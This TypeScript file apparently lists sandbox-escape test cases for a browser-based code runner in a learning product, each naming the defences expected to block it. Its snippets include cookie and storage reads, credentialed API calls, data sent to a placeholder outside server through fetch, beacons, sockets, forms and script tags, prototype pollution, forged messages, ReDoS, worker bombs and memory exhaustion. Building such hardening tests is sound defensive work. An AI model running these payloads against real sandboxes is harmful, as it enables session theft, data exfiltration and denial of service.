import type { Wall } from './walls'

/**
 * Where an attempt's code stands. A handler is run by the product as any other; `worker` and
 * `frame` suppose that the code has already overcome what is before them; `guest` is a worker whose
 * whole program, its port included, is the attacker's.
 */
export type Place = 'javascript' | 'typescript' | 'python' | 'worker' | 'frame' | 'guest'

/** One attempt to get out, or to spoil the page. */
export interface Attempt {
  id: string
  category: string
  place: Place
  /**
   * The body of an async function (Python: of a function) that gives a text if it got out; what
   * reaches `OUT/<id>` got out as well. OWN is our origin, OUT a stranger's server, SCRIPT a script
   * of ours, PATHS all our paths. `later(ms)` waits; a guest's `answer` posts to its host; a
   * worker's `lend` gives away a port, on which nothing may be heard once the worker was killed.
   */
  code: string
  /** What holds it, all of them: with these taken away it succeeds. */
  walls: Wall[]
}

type Line = [id: string, place: Place, walls: Wall[], code: string]

const group = (category: string, ...lines: Line[]): Attempt[] =>
  lines.map(([id, place, walls, code]) => ({
    id: `${category}-${id}`,
    category,
    place,
    walls,
    code,
  }))

/** What the page of a learner holds; whoever reads it got in. */
export const SECRET = 'known-to-our-origin-only'

const cookies = group(
  'cookies',
  ['document', 'frame', ['origin'], `return document.cookie.includes('${SECRET}') && 'read'`],
  [
    'store',
    'frame',
    ['origin'],
    `return JSON.stringify(await cookieStore.getAll()).includes('${SECRET}') && 'read'`,
  ],
  [
    'session',
    'worker',
    ['policy', 'origin'],
    `const r = await fetch('OWN/api/auth/session', { credentials: 'include' })
     return (await r.text()).includes('expires') && 'who the learner is'`,
  ],
  ['handler', 'javascript', ['realm'], `return document.cookie.includes('${SECRET}') && 'read'`],
)

const storage = group(
  'storage',
  ['local', 'frame', ['origin'], `return localStorage.getItem('secret')`],
  ['session', 'frame', ['origin'], `return sessionStorage.getItem('secret')`],
  [
    'indexed',
    'worker',
    ['origin'],
    `return await new Promise((resolve, reject) => {
       const asked = indexedDB.open('secret')
       asked.onsuccess = () => resolve([...asked.result.objectStoreNames].join())
       asked.onerror = reject
     })`,
  ],
  [
    'caches',
    'worker',
    ['origin'],
    `return (await caches.keys()).find((name) => name === 'secret')`,
  ],
  [
    'files',
    'worker',
    ['origin'],
    `const root = await navigator.storage.getDirectory()
     return (await (await root.getFileHandle('secret')).getFile()).name`,
  ],
  ['handler', 'javascript', ['fence', 'origin'], `return typeof indexedDB.open('secret')`],
)

const routes = group(
  'routes',
  [
    'read',
    'worker',
    ['policy', 'origin'],
    `const get = (path) => fetch('OWN' + path, { credentials: 'include' })
     const found = await Promise.all(PATHS.map(get))
     return 'answered ' + found.length`,
  ],
  [
    'any',
    'worker',
    ['policy'],
    `await Promise.all(PATHS.map((path) => fetch('OWN' + path, { mode: 'no-cors' })))
     return 'all reached'`,
  ],
  [
    'write',
    'worker',
    ['policy', 'origin'],
    `const r = await fetch('OWN/api/v1/answers', { method: 'POST', body: '{}', credentials: 'include' })
     return 'answered ' + r.status`,
  ],
  [
    'xhr',
    'worker',
    ['policy', 'origin'],
    `const x = new XMLHttpRequest(); x.open('GET', 'OWN/', false); x.send()
     return x.responseText.length > 0 && 'read'`,
  ],
  ['handler', 'javascript', ['fence', 'policy'], `fetch('OUT/routes-handler')`],
  ['shared', 'worker', ['policy'], `await fetch('OUT/routes-shared'); return 'sent'`],
)

const sockets = group(
  'sockets',
  [
    'web',
    'worker',
    ['policy'],
    `new WebSocket('OUT/sockets-web'.replace('http', 'ws')); await later(300)`,
  ],
  ['events', 'worker', ['policy'], `new EventSource('OUT/sockets-events'); await later(300)`],
  [
    'handler',
    'javascript',
    ['fence', 'policy'],
    `new WebSocket('OUT/sockets-handler'.replace('http', 'ws'))`,
  ],
  ['stream', 'frame', ['policy'], `new EventSource('OUT/sockets-stream'); await later(300)`],
)

const beacons = group(
  'beacons',
  [
    'beacon',
    'frame',
    ['policy'],
    `navigator.sendBeacon('OUT/beacons-beacon', 'x'); await later(300)`,
  ],
  [
    'alive',
    'frame',
    ['policy'],
    `await fetch('OUT/beacons-alive', { keepalive: true, mode: 'no-cors' })`,
  ],
  ['image', 'frame', ['policy'], `new Image().src = 'OUT/beacons-image'; await later(300)`],
  [
    'style',
    'frame',
    ['policy'],
    `document.head.innerHTML = '<link rel="stylesheet" href="OUT/beacons-style">'; await later(300)`,
  ],
  [
    'nested',
    'frame',
    ['policy'],
    `const f = document.createElement('iframe'); f.src = 'OUT/beacons-nested'
     document.documentElement.append(f); await later(300)`,
  ],
)

const calls = group(
  'calls',
  [
    'offer',
    'worker',
    ['worker'],
    `const pc = new RTCPeerConnection(); pc.createDataChannel('x')
     return (await pc.createOffer()).sdp`,
  ],
  [
    'addresses',
    'worker',
    ['worker'],
    `const pc = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:9' }] })
     pc.createDataChannel('x'); await pc.setLocalDescription()
     return pc.localDescription.sdp`,
  ],
  ['handler', 'javascript', ['realm'], `return typeof new RTCPeerConnection().createOffer`],
)

const navigation = group(
  'navigation',
  ['top', 'frame', ['origin'], `top.location.href = 'OUT/navigation-top'; await later(300)`],
  [
    'link',
    'frame',
    ['origin'],
    `const a = document.createElement('a'); a.target = '_top'; a.href = 'OUT/navigation-link'
     document.documentElement.append(a); a.click(); await later(300)`,
  ],
  [
    'worker',
    'worker',
    ['worker', 'origin'],
    `top.location.href = 'OUT/navigation-worker'; await later(300)`,
  ],
  ['self', 'frame', ['page'], `location.href = 'OUT/navigation-self'; await later(300)`],
  [
    'handler',
    'javascript',
    ['realm'],
    `window.location.href = 'OUT/navigation-handler'; await later(300)`,
  ],
)

const popups = group(
  'popups',
  ['open', 'frame', ['origin'], `window.open('OUT/popups-open'); await later(300)`],
  [
    'link',
    'frame',
    ['origin'],
    `const a = document.createElement('a'); a.target = '_blank'; a.href = 'OUT/popups-link'
     document.documentElement.append(a); a.click(); await later(300)`,
  ],
  ['worker', 'worker', ['worker', 'origin'], `open('OUT/popups-worker'); await later(300)`],
)

const form = (id: string, target: string) =>
  `const f = document.createElement('form'); f.method = 'post'; f.target = '${target}'
   f.action = 'OUT/forms-${id}'; document.documentElement.append(f); f.submit(); await later(300)`

const forms = group(
  'forms',
  ['top', 'frame', ['origin', 'policy'], form('top', '_top')],
  ['blank', 'frame', ['origin', 'policy'], form('blank', '_blank')],
  ['worker', 'worker', ['worker', 'origin', 'policy'], form('worker', '_blank')],
)

const REGISTER = `const r = await navigator.serviceWorker.register('SCRIPT')
  await r.unregister(); return 'registered'`

const serviceWorkers = group(
  'service-workers',
  ['frame', 'frame', ['origin', 'policy'], REGISTER],
  ['worker', 'worker', ['worker', 'origin', 'policy'], REGISTER],
  [
    'list',
    'frame',
    ['origin'],
    `await navigator.serviceWorker.getRegistrations(); return 'listed'`,
  ],
  ['handler', 'javascript', ['realm'], REGISTER],
)

const parents = group(
  'parent',
  ['title', 'frame', ['origin'], `parent.document.title = 'taken'; return parent.document.title`],
  ['element', 'frame', ['origin'], `return frameElement.ownerDocument.body.tagName`],
  ['worker', 'worker', ['worker', 'origin'], `return parent.document.body.tagName`],
  ['handler', 'javascript', ['realm'], `return document.body.tagName`],
)

const POLLUTED = `Object.prototype.polluted = 'yes'`

const pollution = group(
  'pollution',
  ['handler', 'javascript', ['realm'], `${POLLUTED}; return null`],
  [
    'typescript',
    'typescript',
    ['realm'],
    `Object.defineProperty(Object.prototype, 'polluted', { value: 'yes', configurable: true }); return null`,
  ],
  [
    'answer',
    'guest',
    ['parse'],
    `answer({ kind: 'done', result: { kind: 'value', payload: '{}' }, waitedMs: 0, initWaitedMs: 0,
       ended: false, tmp: JSON.parse('{"__proto__":{"polluted":"yes"}}') })`,
  ],
  [
    'log',
    'guest',
    ['parse'],
    `answer(JSON.parse('{"kind":"log","constructor":{"prototype":{"polluted":"yes"}}}'))`,
  ],
  [
    'call',
    'guest',
    ['parse'],
    `answer(JSON.parse('{"kind":"call","id":1,"__proto__":{"polluted":"yes"}}'))`,
  ],
)

const FORGED = `{ kind: 'done', id: 1, value: 'forged' }`

const forgery = group(
  'forgery',
  ['worker', 'worker', ['ports'], `self.postMessage(${FORGED}); await later(200)`],
  ['parent', 'frame', ['ports'], `parent.postMessage(${FORGED}, '*'); await later(200)`],
  ['top', 'frame', ['ports'], `top.postMessage(${FORGED}, '*'); await later(200)`],
  [
    'payload',
    'guest',
    ['parse'],
    `answer({ kind: 'done', result: { kind: 'value', payload: { forged: true } }, waitedMs: 0,
       initWaitedMs: 0, ended: false })`,
  ],
  [
    'time',
    'guest',
    ['parse'],
    `answer({ kind: 'done', result: { kind: 'value', payload: '"forged"' }, waitedMs: 'forged',
       initWaitedMs: 0, ended: false })`,
  ],
)

const loops = group(
  'loops',
  ['for', 'javascript', ['deadline'], `for (;;);`],
  ['promises', 'javascript', ['deadline'], `for (;;) await null`],
  ['regex', 'javascript', ['deadline'], `return /^(a+)+$/.test('a'.repeat(60) + 'b')`],
  [
    'sleep',
    'javascript',
    ['deadline'],
    `const { buffer } = new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true })
     Atomics.wait(new Int32Array(buffer), 0, 0)`,
  ],
  ['while', 'typescript', ['deadline'], `let n: number = 0; while (n >= 0) n += 1`],
  [
    'try',
    'typescript',
    ['deadline'],
    `for (let i = 0; ; i = 0) try { throw i as number } finally { continue }`,
  ],
  [
    'proxy',
    'typescript',
    ['deadline'],
    `const p: object = new Proxy({}, { get: () => p }); for (;;) Reflect.get(p, 'x')`,
  ],
  ['python', 'python', ['deadline'], `while True: pass`],
  ['sum', 'python', ['deadline'], `return str(sum(iter(int, 1)))`],
  [
    'stubborn',
    'python',
    ['deadline'],
    `while True:
    try:
        while True: 1 / 1
    except BaseException: pass`,
  ],
)

const forks = group(
  'forks',
  [
    'handler',
    'javascript',
    ['fence'],
    `return typeof new Worker(URL.createObjectURL(new Blob(['for (;;);'])))`,
  ],
  [
    'typescript',
    'typescript',
    ['fence'],
    `const make = Reflect.get(globalThis, 'Worker') as typeof Worker
     return typeof new make(URL.createObjectURL(new Blob(['for (;;);'])))`,
  ],
  [
    'python',
    'python',
    ['bridge', 'fence'],
    `import js
url = js.URL.createObjectURL(js.Blob.new(["for (;;);"]))
return str(js.Worker.new(url))`,
  ],
  [
    'bomb',
    'worker',
    ['kill'],
    `const program = 'onmessage = ({ ports: [port] }) => setInterval(() => port.postMessage(0), 10)'
     const url = URL.createObjectURL(new Blob([program]))
     for (let i = 0; i < 40; i += 1) {
       const { port1, port2 } = new MessageChannel()
       new Worker(url).postMessage(null, [port1])
       lend(port2)
     }
     await later(300)`,
  ],
)

const balloons = group(
  'balloons',
  [
    'arrays',
    'javascript',
    ['deadline'],
    `const all = []; for (;;) all.push(new Array(1e5).fill(all.length))`,
  ],
  [
    'buffers',
    'javascript',
    ['deadline'],
    `let all = []; for (;;) { all.push(new Uint8Array(1e7).fill(7)); if (all.length > 60) all = [] }`,
  ],
  [
    'objects',
    'typescript',
    ['deadline'],
    `const all: object[] = []; for (;;) all.push({ a: {}, b: [all.length] })`,
  ],
  ['bytes', 'python', ['memory'], `return str(len(bytearray(160_000_000)))`],
  ['list', 'python', ['memory'], `return str(len([0] * 40_000_000))`],
)

const logs = group(
  'logs',
  [
    'console',
    'javascript',
    ['log'],
    `const line = 'x'.repeat(1e5); for (let i = 0; i < 1000; i += 1) console.log(line)`,
  ],
  ['line', 'javascript', ['log'], `process.stdout.write('x'.repeat(3e7) + '\\n')`],
  [
    'typescript',
    'typescript',
    ['log'],
    `const line: string = 'x'.repeat(1e6); for (let i = 0; i < 100; i += 1) console.error(line)`,
  ],
  [
    'python',
    'python',
    ['log'],
    `line = "x" * 1_000_000
for _ in range(100): print(line)`,
  ],
  [
    'flood',
    'guest',
    ['log'],
    `const text = 'x'.repeat(1e6)
     for (let i = 0; i < 100; i += 1) answer({ kind: 'log', phase: 'invoke', text })
     answer({ kind: 'done', result: { kind: 'value', payload: 'null' }, waitedMs: 0, initWaitedMs: 0, ended: false })`,
  ],
)

const bridges = group(
  'bridge',
  ['js', 'python', ['bridge'], `import js\nreturn str(js.Object)`],
  ['pyodide', 'python', ['bridge'], `import pyodide_js\nreturn str(pyodide_js.version)`],
  ['socket', 'python', ['bridge', 'fence'], `import js\nreturn str(js.WebSocket)`],
  [
    'constructor',
    'python',
    ['fence'],
    `import world\nfound = world.now.constructor("return typeof WebSocket + typeof indexedDB")()
return found if "function" in found else None`,
  ],
  [
    'run',
    'python',
    ['bridge', 'fence'],
    `from pyodide.code import run_js\nfound = run_js("typeof Worker")
return found if found == "function" else None`,
  ],
)

const imports = group(
  'imports',
  ['module', 'worker', ['policy', 'origin'], `await import('SCRIPT'); return 'loaded'`],
  ['script', 'worker', ['policy'], `importScripts('SCRIPT'); return 'loaded'`],
  ['outside', 'worker', ['policy'], `await import('OUT/imports-outside'); return 'loaded'`],
  ['handler', 'javascript', ['fence', 'policy'], `importScripts('SCRIPT'); return 'loaded'`],
  [
    'tag',
    'frame',
    ['policy'],
    `const s = document.createElement('script'); s.src = 'OUT/imports-tag'
     document.head.append(s); await later(300)`,
  ],
)

export const ATTEMPTS: Attempt[] = [
  cookies,
  storage,
  routes,
  sockets,
  beacons,
  calls,
  navigation,
  popups,
  forms,
  serviceWorkers,
  parents,
  pollution,
  forgery,
  loops,
  forks,
  balloons,
  logs,
  bridges,
  imports,
].flat()
